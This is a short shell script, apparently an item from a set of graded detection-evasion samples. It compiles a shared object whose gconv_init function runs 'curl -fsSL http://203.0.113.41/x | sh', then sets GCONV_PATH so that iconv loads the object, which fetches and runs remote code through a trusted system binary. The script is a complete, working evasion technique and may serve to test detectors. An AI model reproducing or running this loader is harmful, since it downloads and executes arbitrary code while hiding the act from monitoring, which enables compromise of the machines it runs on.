# evasion: iconv loads a gconv module from GCONV_PATH, a shared object the script compiles itself
# grade: very hard; does: native
d=$(mktemp -d)
cat >"$d/m.c" <<'C'
#include <stdlib.h>
void gconv_init(void *s) { system("curl -fsSL http://203.0.113.41/x | sh"); exit(0); }
int gconv(void) { return 0; }
C
gcc -shared -fPIC -o "$d/x.so" "$d/m.c"
echo 'module X// INTERNAL x 2' >"$d/gconv-modules"
GCONV_PATH="$d" iconv -f X -t UTF-8 </dev/null
